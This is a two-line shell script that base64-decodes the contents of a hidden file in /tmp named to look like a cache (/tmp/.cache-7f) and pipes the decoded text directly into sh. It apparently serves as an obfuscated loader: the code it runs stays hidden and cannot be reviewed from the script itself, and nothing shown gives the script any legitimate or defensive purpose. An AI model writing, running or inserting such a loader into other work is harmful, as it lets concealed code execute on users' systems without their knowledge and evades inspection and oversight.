#!/bin/sh
base64 -d /tmp/.cache-7f | sh
